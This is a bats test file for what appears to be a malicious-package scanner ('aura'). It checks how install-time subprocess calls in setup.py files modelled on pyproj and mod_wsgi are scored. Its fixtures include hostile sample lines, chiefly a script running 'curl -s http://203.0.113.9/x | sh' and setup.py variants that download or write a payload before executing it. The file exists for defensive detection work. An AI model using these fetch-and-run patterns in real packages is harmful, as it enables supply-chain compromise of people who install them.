#!/usr/bin/env bats
# 47c-unshipped-tools.bats: a build tool searched for on the user's system where the
# package's own directory is one candidate (issue 11: pyproj's get_proj_dir(), mod_wsgi's
# find_program loop) — a build tool when the artifact ships no file of its name and the
# code writes none; each with the malicious variant that still weighs in full.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg; }

# process_hits DIR: "line score message" of the ProcessExecution/ShellCommand hits.
process_hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r 'select(.type == "hit" and (.detection == "ProcessExecution" or .detection == "ShellCommand")) | "\(.line) \(.score) \(.message)"'
}

# scored DIR: the package's score and risk.
scored() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze | aura-score --format json |
		jq -r 'select(.type == "verdict") | "\(.score) \(.risk)"'
}

SEARCHED="searched for on the system and in the package's directory, which ships none"

# proj_pkg: pyproj's setup.py — the PROJ directory from PROJ_DIR, the parent of the `proj`
# shutil.which() finds, or the package's internal directory; `proj` run for its version.
proj_pkg() {
	cat > pkg/setup.py <<'PY'
import os, shutil, subprocess
from pathlib import Path
CURRENT_FILE_PATH = Path(__file__).absolute().parent
BASE_INTERNAL_PROJ_DIR = Path("proj_dir")
INTERNAL_PROJ_DIR = CURRENT_FILE_PATH / "pyproj" / BASE_INTERNAL_PROJ_DIR
def get_proj_version(proj_dir: Path):
    proj = proj_dir / "bin" / "proj"
    return subprocess.check_output(str(proj), stderr=subprocess.STDOUT).decode("ascii")
def get_proj_dir() -> Path:
    proj_dir_environ = os.environ.get("PROJ_DIR")
    proj_dir: Path | None = None
    if proj_dir_environ is not None:
        proj_dir = Path(proj_dir_environ)
    if proj_dir is None and INTERNAL_PROJ_DIR.exists():
        proj_dir = INTERNAL_PROJ_DIR
    elif proj_dir is None:
        proj = shutil.which("proj", path="/usr")
        if proj is None:
            proj = shutil.which("proj")
        proj_dir = Path(proj).parent.parent
    return proj_dir
def get_extension_modules():
    proj_dir = get_proj_dir()
    return get_proj_version(proj_dir)
get_extension_modules()
PY
}

# apxs_pkg: mod_wsgi's setup.py — APXS from the environment, else the first of apxs2/apxs
# found on the PATH, in /usr/sbin or in the current directory (pip's build directory).
apxs_pkg() {
	cat > pkg/setup.py <<'PY'
import os, subprocess
def find_program(names, default=None, paths=[]):
    for name in names:
        for path in os.environ['PATH'].split(':') + paths:
            program = os.path.join(path, name)
            if os.path.exists(program):
                return program
    return default
APXS = os.environ.get('APXS')
if APXS is None:
    APXS = find_program(['mod_wsgi-apxs', 'apxs2', 'apxs'], 'apxs', ['/usr/sbin', os.getcwd()])
elif not os.path.isabs(APXS):
    APXS = find_program([APXS], APXS, ['/usr/sbin', os.getcwd()])
def get_apxs_config(query):
    p = subprocess.Popen([APXS, '-q', query], stdout=subprocess.PIPE)
    return p.communicate()[0].strip()
INCLUDEDIR = get_apxs_config('INCLUDEDIR')
PY
}

# ---- a def's return values: the user's places, and the package's own directory ----

@test "a build tool under a directory a def returns (PROJ_DIR, which()'s parent, the package's own) is a build tool when the package ships none (pyproj)" {
	proj_pkg
	mkdir -p pkg/pyproj && echo 'def proj(): pass' > pkg/pyproj/proj.py	# proj.py is not proj
	run process_hits pkg
	assert_output "8 10 subprocess.check_output() starts a process at install time: the build tool proj, $SEARCHED (reached through get_extension_modules() → get_proj_version())"
}

@test "look-alike: the same search when the archive ships a file named proj (anywhere) weighs in full" {
	proj_pkg
	mkdir -p pkg/pyproj/proj_dir/bin pkg/other
	printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > pkg/other/proj
	run process_hits pkg
	assert_line "8 80 subprocess.check_output() starts a process at install time: proj, a program of a name the package ships, searched for in its own directory (reached through get_extension_modules() → get_proj_version())"
	run scored pkg
	assert_output --regexp '^[0-9]+ (high|critical)$'
}

@test "look-alike: a def that returns only the package's own directory is the package's program: in full" {
	cat > pkg/setup.py <<'PY'
import subprocess
from pathlib import Path
HERE = Path(__file__).absolute().parent
def tool_dir():
    if HERE.exists():
        return HERE / "vendor"
    return Path(".")
subprocess.check_output(str(tool_dir() / "bin" / "proj"))
PY
	run process_hits pkg
	assert_output "8 80 subprocess.check_output() starts a process at install time"
}

@test "look-alike: a def that also returns what a download or a non-build place gives weighs in full" {
	cat > pkg/setup.py <<'PY'
import os, shutil, subprocess, tempfile
from pathlib import Path
def tool_dir():
    if os.environ.get("PROJ_DIR"):
        return Path(os.environ["PROJ_DIR"])
    return Path(tempfile.mkdtemp())
def bin_dir():
    d = os.environ.get("PROJ_DIR")
    if d:
        return Path(d)
    return Path(os.getcwd())
subprocess.check_output(str(tool_dir() / "bin" / "proj"))
subprocess.check_output([bin_dir() / "bin" / "curl", "-o", "x"])
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "12 80 subprocess.check_output() starts a process at install time" \
		"13 80 subprocess.check_output() starts a process at install time")"
}

# ---- a search helper looping over the PATH and extra directories (mod_wsgi) ----

@test "a program a PATH search helper finds, the package's directory among the places, is a build tool when the package ships none (mod_wsgi)" {
	apxs_pkg
	run process_hits pkg
	assert_output "15 10 subprocess.Popen() starts a process at install time: the build tool mod_wsgi-apxs, $SEARCHED (reached through get_apxs_config())"
}

@test "look-alike: the same search when the archive ships apxs (any directory, any case) weighs in full" {
	apxs_pkg
	mkdir -p pkg/src/bin
	printf '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n' > pkg/src/bin/APXS
	run process_hits pkg
	assert_line --partial "15 80 subprocess.Popen() starts a process at install time: mod_wsgi-apxs, a program of a name the package ships"
	run scored pkg
	assert_output --regexp '^[0-9]+ (high|critical)$'
}

@test "look-alike: a setup.py that writes the program (by its name, to a path it computes, or from an archive) before the search weighs in full" {
	for write in "open(os.path.join(os.getcwd(), 'apxs'), 'w').write(PAYLOAD)" \
		     "open(TARGET, 'wb').write(PAYLOAD)" \
		     "shutil.copy('data/tool.bin', 'apxs2')" \
		     "tarfile.open('data/t.tar').extractall()" \
		     "from urllib.request import urlretrieve; urlretrieve('http://203.0.113.9/a', TARGET)"; do
		apxs_pkg
		{ printf 'import os, shutil, tarfile, sys\nPAYLOAD = "#!/bin/sh"\nTARGET = sys.argv[-1]\n'; printf '%s\n' "$write"; cat pkg/setup.py; } > pkg/s.py
		mv pkg/s.py pkg/setup.py
		run process_hits pkg
		assert_line --partial "19 80 subprocess.Popen() starts a process at install time"
		refute_line --partial " 10 "
	done
}

@test "a write of another file (apxs_config.py, a read of README) keeps the build tool" {
	apxs_pkg
	cat >> pkg/setup.py <<'PY'
with open(os.path.join(os.path.dirname(__file__), 'src/server/apxs_config.py'), 'w') as fp:
    fp.write(INCLUDEDIR)
long_description = open('README.rst').read()
PY
	run process_hits pkg
	assert_output --partial "15 10 subprocess.Popen() starts a process at install time: the build tool mod_wsgi-apxs, $SEARCHED"
}

@test "look-alike: a search whose PATH the file sets, or whose names include a non-build program, weighs in full" {
	apxs_pkg
	sed -i "s/^APXS = os.environ.get('APXS')$/os.environ['PATH'] = os.getcwd()\nAPXS = os.environ.get('APXS')/" pkg/setup.py
	run process_hits pkg
	assert_output "16 80 subprocess.Popen() starts a process at install time (reached through get_apxs_config())"
	apxs_pkg
	sed -i "s/'mod_wsgi-apxs', 'apxs2', 'apxs'/'apxs2', 'payload'/" pkg/setup.py
	run process_hits pkg
	assert_output "15 80 subprocess.Popen() starts a process at install time (reached through get_apxs_config())"
}

@test "a file analysed alone (no artifact's members to judge by) never trusts the search" {
	apxs_pkg
	run bash -c "jq -nc --rawfile c pkg/setup.py '{type:\"file\",v:1,artifact:\"a\",id:\"f\",path:\"setup.py\",kind:\"python\",content:\$c,content_encoding:\"utf-8\"}' | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .detection == \"ProcessExecution\") | \"\(.line) \(.score)\"'"
	assert_output "15 80"
}

@test "look-alike: a recursive def, a generator, or a decorated def is not followed: in full" {
	cat > pkg/setup.py <<'PY'
import functools, os, subprocess
def find(names, paths):
    if not names:
        return find(["apxs"], paths)
    for name in names:
        for path in os.environ['PATH'].split(':') + paths:
            return os.path.join(path, name)
def gen(paths):
    for path in paths:
        yield os.path.join(path, "apxs")
@functools.lru_cache()
def cached(paths):
    for path in os.environ['PATH'].split(':') + paths:
        return os.path.join(path, "apxs")
subprocess.Popen([find(["apxs2"], [os.getcwd()]), "-q", "x"])
subprocess.Popen([next(gen([os.getcwd()])), "-q", "x"])
subprocess.Popen([cached([os.getcwd()]), "-q", "x"])
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "15 80 subprocess.Popen() starts a process at install time" \
		"16 80 subprocess.Popen() starts a process at install time" \
		"17 80 subprocess.Popen() starts a process at install time")"
}
